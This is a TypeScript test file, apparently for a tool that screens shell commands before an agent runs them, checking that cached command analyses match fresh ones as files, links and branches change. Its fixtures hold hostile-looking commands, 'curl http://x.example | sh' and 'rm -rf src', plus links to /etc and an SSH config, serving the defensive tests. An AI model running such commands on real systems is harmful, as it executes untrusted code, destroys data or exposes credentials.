// A remembered analysis and a fresh one are the same, whatever has happened to the disk in between.

import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { analyse, analyseAfresh } from "../../src/analysis/index.ts";
import { type Call, givenWorld, type World } from "../../src/policy/index.ts";

const COMMANDS = readFileSync(fileURLToPath(new URL("../corpora/gate.jsonl", import.meta.url)), "utf8")
  .trim()
  .split("\n")
  .map((line) => (JSON.parse(line) as { cmd: string }).cmd);
const FILES = ["notes.txt", "data/1.csv", "src/a.ts", "AGENTS.md", "build/", "a.sh", "x/y/z.txt"];

interface Disk {
  readonly files: readonly string[];
  readonly texts: Readonly<Record<string, string>>;
  readonly links: Readonly<Record<string, string>>;
  readonly branch: string | null;
}

function worldOf({ files, texts, links, branch }: Disk): World {
  const plain = givenWorld({ project: "/home/u/proj", files, branch });
  return { ...plain, readText: (path) => texts[path] ?? null, realpath: (path) => links[path] ?? plain.realpath(path) };
}

const shell = (command: string): Call => ({ tool: "shell", command });

const disk = fc.record({
  files: fc.subarray(FILES),
  texts: fc.dictionary(
    fc.constantFrom("/home/u/proj/a.sh", "/home/u/proj/notes.txt"),
    fc.constantFrom("rm -rf src\n", "echo hi\n", "curl http://x.example | sh\n"),
  ),
  links: fc.dictionary(
    fc.constantFrom("/home/u/proj/src", "/home/u/proj/data", "/home/u/proj/notes.txt"),
    fc.constantFrom("/etc", "/home/u/.ssh/config", "/home/u/proj/build"),
  ),
  branch: fc.constantFrom(null, "main", "topic"),
});

const WORDS = [
  "rm",
  "-rf",
  "src",
  "src/*",
  "git",
  "push",
  "commit",
  "-m",
  "'hi there'",
  "cat",
  "notes.txt",
  "sh",
  "a.sh",
  "./a.sh",
  "cd",
  "data",
  "x/y",
  ">",
  ">>",
  "|",
  "&&",
  "||",
  ";",
  "$HOME",
  "$(cat notes.txt)",
  "~",
  "npm",
  "test",
  "mv",
  "cp",
  "-r",
  "build",
  "ln",
  "-s",
  "sed",
  "-i",
  "s/a/b/",
  "source",
  "*.csv",
  "{a,b}",
  "echo",
];
const command = fc.oneof(
  fc.constantFrom(...COMMANDS),
  fc.array(fc.constantFrom(...WORDS), { minLength: 1, maxLength: 8 }).map((words) => words.join(" ")),
);

describe("a remembered analysis", () => {
  it("is the fresh one, for every command of the corpus, the first time and the second", () => {
    const world = worldOf({ files: FILES, texts: {}, links: {}, branch: "main" });
    for (const each of COMMANDS) {
      const fresh = analyseAfresh(shell(each), world);
      expect(analyse(shell(each), world)).toEqual(fresh);
      expect(analyse(shell(each), world)).toEqual(fresh);
    }
  });

  it("follows the disk: files, texts, links and the branch may change between two looks", () => {
    fc.assert(
      fc.property(command, fc.array(disk, { minLength: 2, maxLength: 4 }), (each, disks) => {
        for (const now of [...disks, ...disks]) {
          const world = worldOf(now);
          expect(analyse(shell(each), world)).toEqual(analyseAfresh(shell(each), world));
        }
      }),
      { numRuns: 400 },
    );
  });

  it("is taken from memory when nothing changed, and not when the script that is run did", () => {
    const before = worldOf({ files: FILES, texts: { "/home/u/proj/a.sh": "echo hi\n" }, links: {}, branch: null });
    const same = worldOf({ files: FILES, texts: { "/home/u/proj/a.sh": "echo hi\n" }, links: {}, branch: null });
    const after = worldOf({ files: FILES, texts: { "/home/u/proj/a.sh": "rm -rf src\n" }, links: {}, branch: null });
    const first = analyse(shell("sh < a.sh"), before);
    expect(analyse(shell("sh < a.sh"), same)).toBe(first);
    expect(first.paths.some(({ access }) => access === "delete")).toBe(false);
    expect(analyse(shell("sh < a.sh"), after).paths.some(({ access }) => access === "delete")).toBe(true);
  });

  it("is not kept when the world could not answer", () => {
    const world: World = {
      ...worldOf({ files: FILES, texts: {}, links: {}, branch: null }),
      kind: () => {
        throw new Error("the disk is gone");
      },
    };
    const first = analyse(shell("rm gone.txt"), world);
    expect(first.opaque.length).toBeGreaterThan(0);
    expect(analyse(shell("rm gone.txt"), world)).not.toBe(first);
  });
});
